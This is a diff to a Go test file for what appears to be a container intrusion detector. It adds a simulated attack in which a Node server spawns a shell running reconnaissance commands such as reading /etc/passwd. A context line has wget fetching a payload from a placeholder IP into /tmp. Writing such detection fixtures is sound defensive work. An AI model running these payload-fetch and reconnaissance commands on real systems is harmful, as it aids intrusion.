@@ -51,6 +51,16 @@ func stories() map[string]*detecttest.Story {
 	s.Exec(j, "/usr/bin/wget http://203.0.113.7/a -O /tmp/a")
 	m["attack-tomcat-direct"] = s
 
+	// Behind a proxy of its own pod nobody else reaches it.
+	s = detecttest.New(detecttest.Pod("shop", "web", "api", "corp/api:1"))
+	api := s.Was(nil, "/usr/local/bin/node /app/server.js")
+	s.Listen(api, "127.0.0.1:3000")
+	for _, c := range []string{"/usr/bin/id", "/usr/bin/whoami", "/usr/bin/uname -a", "/usr/bin/cat /etc/passwd"} {
+		s.Exec(s.Exec(api, "/usr/bin/dash=sh -c x"), c)
+		s.Wait(time.Second)
+	}
+	m["attack-behind-a-proxy"] = s
+
 	// Normal work below servers.
 	s = detecttest.New(detecttest.Pod("shop", "web", "php", "php:8.3-fpm"))
 	f := s.Was(s.Was(nil, "/usr/local/sbin/php-fpm"), "/usr/local/sbin/php-fpm")
